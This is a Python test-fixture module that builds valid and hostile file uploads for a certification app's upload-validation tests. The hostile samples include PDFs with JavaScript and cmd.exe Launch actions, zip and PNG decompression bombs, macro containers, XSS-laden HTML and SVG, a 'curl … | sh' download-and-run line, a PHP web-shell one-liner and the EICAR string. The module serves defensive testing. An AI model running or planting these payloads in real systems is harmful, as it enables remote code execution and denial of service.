"""A hostile-upload corpus built in code: valid files of every accepted kind, and the files that must be refused.

Nothing binary is committed; every sample is a few hundred bytes (the zip bombs a few kilobytes, expanding
to many megabytes) built on demand. Used by certflow/core/tests/test_uploads.py and by later stages'
upload tests: `from certflow.core.tests import hostile`.
"""

import io
import struct
import zipfile
import zlib

from certflow.core.uploads import EICAR

# --- PDF ------------------------------------------------------------------------------------------------


def pdf(*, catalog_extra: bytes = b"", extra_objects: list[bytes] = (), comment: bytes = b"") -> bytes:
    """A minimal, valid one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"BT /F1 12 Tf 72 720 Td (certflow) Tj ET"),
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if comment:
        out.write(b"% " + comment + b"\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _stream(content: bytes, *, flate: bool = False) -> bytes:
    if flate:
        content = zlib.compress(content)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def pdf_with_javascript() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def pdf_with_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript written with a hex escape, as evasive samples do."""
    return pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")


def pdf_with_launch() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_javascript_in_object_stream() -> bytes:
    """The action dictionary hidden in a Flate-compressed object stream: invisible in the raw bytes."""
    hidden = b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    body = b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n"
    compressed = zlib.compress(hidden)
    return pdf(extra_objects=[body % len(compressed) + compressed + b"\nendstream"])


def pdf_with_flate_content() -> bytes:
    """A valid PDF whose page content is Flate-compressed (harmless)."""
    return pdf(extra_objects=[_stream(b"BT /F1 12 Tf 72 700 Td (flate) Tj ET" * 50, flate=True)])


# --- images ---------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int = 2, height: int = 2) -> bytes:
    """A valid RGB PNG, built by hand (signature, IHDR, IDAT, IEND with correct CRCs)."""
    raw = b"".join(b"\x00" + b"\xc8\x10\x2e" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(raw))
        + _png_chunk(b"IEND", b"")
    )


def png_claiming_huge_size() -> bytes:
    """A tiny PNG whose header claims 200 000 × 200 000 pixels: a decompression bomb."""
    return png_header_only(200_000, 200_000)


def png_header_only(width: int, height: int) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 16, 46)).save(out, format="JPEG")
    return out.getvalue()


# --- Office Open XML ------------------------------------------------------------------------------------

_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="{target}"/></Relationships>'
)


def _content_types(main_part: str, main_type: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    )


def _zip(members: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_members(text: str = "定制商品服务认证 申请材料") -> dict[str, str]:
    return {
        "[Content_Types].xml": _content_types(
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "_rels/.rels": _RELS.format(target="word/document.xml"),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        ),
    }


def xlsx_members() -> dict[str, str]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        "[Content_Types].xml": _content_types(
            "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ).replace(
            "</Types>",
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        ),
        "_rels/.rels": _RELS.format(target="xl/workbook.xml"),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{main}" '
            f'xmlns:r="{rel}"><sheets><sheet name="客户" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{main}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>客户名称</t></is></c></row></sheetData></worksheet>'
        ),
    }


def docx(text: str = "定制商品服务认证 申请材料") -> bytes:
    return _zip(docx_members(text))


def xlsx() -> bytes:
    return _zip(xlsx_members())


def _with_zeros(members: dict, name: str, size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
        with archive.open(name, "w") as part:
            block = b"\x00" * (1024 * 1024)
            for _ in range(size // len(block)):
                part.write(block)
    return out.getvalue()


def docx_zip_bomb(size: int = 16 * 1024 * 1024) -> bytes:
    """A real docx plus one part of zeros: kilobytes on disk, `size` bytes expanded (ratio ≈ 1000)."""
    return _with_zeros(docx_members(), "word/media/image1.bin", size)


def xlsx_zip_bomb(size: int = 16 * 1024 * 1024) -> bytes:
    return _with_zeros(xlsx_members(), "xl/media/image1.bin", size)


def docx_with_many_members(count: int = 1001) -> bytes:
    members = docx_members()
    members.update({f"word/media/part{i}.xml": "<x/>" for i in range(count)})
    return _zip(members, compression=zipfile.ZIP_STORED)


def docx_declaring_zip64_entries(entries: int) -> bytes:
    """A docx whose end records say ZIP64 with `entries` parts: a million-entry bomb is refused before
    zipfile would build a million entries in memory."""
    data = _zip(docx_members())
    end = data.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, end + 12)
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, entries, entries, cd_size, cd_offset)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, end, 1)
    eocd = bytearray(data[end:])
    eocd[8:12] = b"\xff\xff\xff\xff"  # entries on this disk, entries in total: see the ZIP64 record
    return data[:end] + record + locator + bytes(eocd)


def docx_with_member(name: str, content: bytes | str = b"x", *, stored: bool = False) -> bytes:
    members = docx_members()
    members[name] = content
    return _zip(members, compression=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)


def docx_with_macros() -> bytes:
    return docx_with_member("word/vbaProject.bin", b"\x00VBA" * 64)


def docx_encrypted_member() -> bytes:
    """A docx whose parts carry the zip 'encrypted' flag (traditional PKWARE encryption): the flag bit
    is set in every local and central header, as zipfile cannot write encrypted archives itself."""
    data = bytearray(_zip(docx_members(), compression=zipfile.ZIP_STORED))
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + flag_offset] |= 0x1
            start += 4
    return bytes(data)


def docx_truncated() -> bytes:
    data = docx()
    return data[: len(data) // 2]


def docx_with_bad_crc() -> bytes:
    """Flip one byte of the document part's data: the zip opens, the CRC check fails."""
    data = bytearray(_zip(docx_members(), compression=zipfile.ZIP_STORED))
    index = data.index(b"<w:body>")
    data[index + 1] ^= 0x20
    return bytes(data)


def plain_zip() -> bytes:
    return _zip({"readme.txt": "not an office document", "data/list.csv": "a,b\n1,2\n"})


def pptx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(
                "ppt/presentation.xml",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            ),
            "ppt/presentation.xml": "<p/>",
        }
    )


# --- OLE2 (Word/Excel 97-2003) ------------------------------------------------------------------------

_END, _FREE, _FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def _dir_entry(name: str, entry_type: int, *, child: int = _FREE, right: int = _FREE, size: int = 0) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), entry_type, 1)  # name length, type, colour (black)
        + struct.pack("<III", _FREE, right, child)  # left sibling, right sibling, child
        + b"\x00" * 16  # CLSID
        + struct.pack("<I", 0)  # state bits
        + b"\x00" * 16  # creation and modification time
        + struct.pack("<IQ", _END if size == 0 else 0, size)  # start sector, size
    )


def ole2(*streams: str) -> bytes:
    """A structurally valid Compound File (512-byte sectors): a FAT sector, a directory sector, and the
    named empty streams under the root (enough to tell a .doc from a .xls, or find macro storages)."""
    entries = [_dir_entry("Root Entry", 5, child=1 if streams else _FREE)]
    for i, name in enumerate(streams, start=1):
        entry_type = 1 if name in ("Macros", "_VBA_PROJECT_CUR", "VBA") else 2
        entries.append(_dir_entry(name, entry_type, right=i + 1 if i < len(streams) else _FREE))
    directory = b"".join(entries).ljust(512, b"\x00")
    assert len(directory) == 512, "at most 4 entries fit this sample's single directory sector"
    fat = struct.pack("<II", _FATSECT, _END) + struct.pack("<I", _FREE) * 126
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16  # CLSID
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)  # minor, major version, byte order, sector shifts
        + b"\x00" * 6
        + struct.pack("<III", 0, 1, 1)  # directory sectors (0 for v3), FAT sectors, first directory sector
        + struct.pack("<III", 0, 4096, _END)  # transaction, mini-stream cutoff, first mini-FAT sector
        + struct.pack("<II", 0, _END)  # mini-FAT sectors, first DIFAT sector
        + struct.pack("<I", 0)  # DIFAT sectors
        + struct.pack("<I", 0)  # DIFAT[0]: the FAT is sector 0
        + struct.pack("<I", _FREE) * 108
    )
    assert len(header) == 512
    return header + fat + directory


def doc() -> bytes:
    return ole2("WordDocument", "1Table")


def xls() -> bytes:
    return ole2("Workbook")


def doc_with_macros() -> bytes:
    return ole2("WordDocument", "1Table", "Macros")


def encrypted_docx() -> bytes:
    """What Word saves for a .docx with an open password: an OLE2 container, not a zip."""
    return ole2("EncryptionInfo", "EncryptedPackage")


def ole2_broken() -> bytes:
    return doc()[:520]


# --- everything else ----------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(1)</script></body></html>\n"
HTML_NO_DOCTYPE = b"\n  <html><body onload=alert(1)>hi</body></html>"
SVG = (
    b'<?xml version="1.0" standalone="no"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>\n'
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"PE\x00\x00"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"

CSV_UTF8 = "客户名称,联系电话,购买日期\n张三,13800138000,2025-08-01\n".encode()
CSV_UTF8_BOM = b"\xef\xbb\xbf" + CSV_UTF8
CSV_GBK = "客户名称,联系电话,购买日期\n李四,13900139000,2025-08-02\n".encode("gbk")
CSV_WITH_NUL = b"a,b\n1,\x002\n"
CSV_BAD_ENCODING = b"a,b\n\xff\xfe\xfd,\x80\x80\x80\n"

EICAR_TEXT = EICAR


def pdf_with_eicar() -> bytes:
    return pdf(comment=EICAR)


def docx_with_eicar() -> bytes:
    """EICAR in a stored (uncompressed) part: visible in the raw bytes, as a scanner sees it."""
    return docx_with_member("word/media/readme.txt", EICAR, stored=True)
